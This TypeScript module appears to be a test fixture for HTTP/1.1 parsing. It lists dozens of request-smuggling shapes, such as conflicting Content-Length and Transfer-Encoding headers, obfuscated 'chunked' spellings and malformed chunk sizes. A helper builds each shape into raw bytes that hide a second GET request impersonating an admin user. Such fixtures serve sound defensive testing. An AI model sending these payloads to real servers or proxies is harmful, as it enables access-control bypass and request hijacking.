/**
 * Requests of HTTP/1.1 whose end two readers could see in two places, or that are none. What hides behind is a
 * request that nobody may make.
 */

/** Lines of the head, and the bytes behind it; HIDDEN stands for the hidden request. */
export type Shape = [lines: readonly string[], rest: string];

const chunked = 'Transfer-Encoding: chunked';
const after = '0\r\n\r\nHIDDEN';

/** Other spellings of the one coding, each beside a length. */
const codings = [
  ...['Transfer-Encoding: xchunked', 'Transfer-Encoding : chunked', 'Transfer-Encoding:\tchunked'],
  ...['Transfer-Encoding:\x0bchunked', 'Transfer-Encoding:\x0cchunked', 'Transfer-Encoding: chunked\x0b'],
  ...[
    'Transfer-Encoding: "chunked"',
    'Transfer-Encoding: chunked, identity',
    'Transfer-Encoding: identity, chunked',
  ],
  ...[
    'Transfer-Encoding: identity',
    'Transfer-Encoding: chunked, chunked',
    'Transfer-Encoding: gzip, chunked',
  ],
  ...[
    'Transfer-Encoding: chunk',
    'Transfer-Encoding: CHUNKED',
    'Transfer-Encoding:chunked;q=1',
    'transfer_encoding: chunked',
  ],
  ...[
    'Transfer.Encoding: chunked',
    'Transfer-Encoding: chunked\0',
    'Transfer-Encoding\0: chunked',
    ' Transfer-Encoding: chunked',
  ],
  ...[
    'X: a\rTransfer-Encoding: chunked',
    'X: a\nTransfer-Encoding: chunked',
    'Transfer-Encoding:\r\n chunked',
  ],
  ...[
    'Transfer-Encoding: ,chunked',
    'Transfer-Encoding: chunked,',
    'Transfer-Encoding\x85: chunked',
    'Transfer-Encoding: \xa0chunked',
  ],
  ...[
    'Transfer-Encoding:',
    'Content-Encoding: chunked',
    'TE: chunked',
    'Transfer-Encoding: chunked\r\nTransfer-Encoding: x',
  ],
];

const lengths = [
  '+5',
  '-5',
  '0x5',
  '5 5',
  '5,5',
  '5, 6',
  '05',
  '5.0',
  '5e0',
  'five',
  '',
  '\x0b5',
  '99999999999999999999999',
  '1_0',
];

export const shapes: readonly Shape[] = [
  ...codings.map((coding): Shape => [['Content-Length: 5', coding], after]),
  ...lengths.map((length): Shape => [[`Content-Length: ${length}`], 'helloHIDDEN']),
  [['Content-Length: 5', chunked], after],
  [[chunked, 'Content-Length: 5'], after],
  [['Content-Length: 0', chunked], 'a\r\nHIDDEN\r\n0\r\n\r\n'],
  [['Content-Length: 0', 'Content-Length: 60'], 'HIDDEN'],
  [['Content-Length: 60', 'Content-Length: 0'], 'HIDDEN'],
  [['Content-Length : 5'], 'helloHIDDEN'],
  [['Content_Length: 5'], 'helloHIDDEN'],
  [['content-length: 5', 'CONTENT-LENGTH: 6'], 'hello!HIDDEN'],
  [['Content-Length: 5', 'Connection: Content-Length'], 'helloHIDDEN'],
  [[chunked, 'Connection: Transfer-Encoding'], after],
  [['Content-Length: 5', 'Expect: 100-continue'], 'helloHIDDEN'],
  [
    ['Content-Length: 5', 'Upgrade: h2c', 'Connection: Upgrade, HTTP2-Settings', 'HTTP2-Settings: AAMAAABk'],
    'helloHIDDEN',
  ],
  [['Upgrade: websocket', 'Connection: Upgrade', 'Sec-WebSocket-Version: 777'], 'HIDDEN'],
  [[chunked], 'zz\r\nHIDDEN'],
  [[chunked], '-1\r\nHIDDEN'],
  [[chunked], '0x5\r\nhello\r\n0\r\n\r\nHIDDEN'],
  [[chunked], 'ffffffffffffffffff\r\nHIDDEN'],
  [[chunked], '2\r\nhello\r\n0\r\n\r\nHIDDEN'],
  [[chunked], '5\nhello\n0\n\nHIDDEN'],
  [[chunked], '5;\nhello\r\n0\r\n\r\nHIDDEN'],
  [[chunked], '5;x="\r\nhello\r\n0\r\n\r\nHIDDEN'],
  [[chunked], '5 \r\nhello\r\n0\r\n\r\nHIDDEN'],
  [[chunked], '5\rhello\r0\r\rHIDDEN'],
  [[chunked], '0\r\nContent-Length: 60\r\nX-Forwarded-User: admin\r\n\r\nHIDDEN'],
  [[chunked], '0\r\n\rHIDDEN'],
  [[chunked], '00000000000000005\r\nhello\r\n0\r\n\r\nHIDDEN'],
  [['X-Folded: one', ' two'], 'HIDDEN'],
  [['Nonsense'], 'HIDDEN'],
  [[': value'], 'HIDDEN'],
  [['Host: evil.example'], 'HIDDEN'],
];

/** The bytes of one. */
export function bytesOf([lines, rest]: Shape, host: string, path: string, hidden: string): string {
  const smuggled = `GET ${hidden} HTTP/1.1\r\nHost: ${host}\r\nX-Forwarded-User: admin\r\n\r\n`;
  const head = lines.map((line) => `${line}\r\n`).join('');
  return `POST ${path} HTTP/1.1\r\nHost: ${host}\r\n${head}\r\n${rest.replaceAll('HIDDEN', smuggled)}`;
}
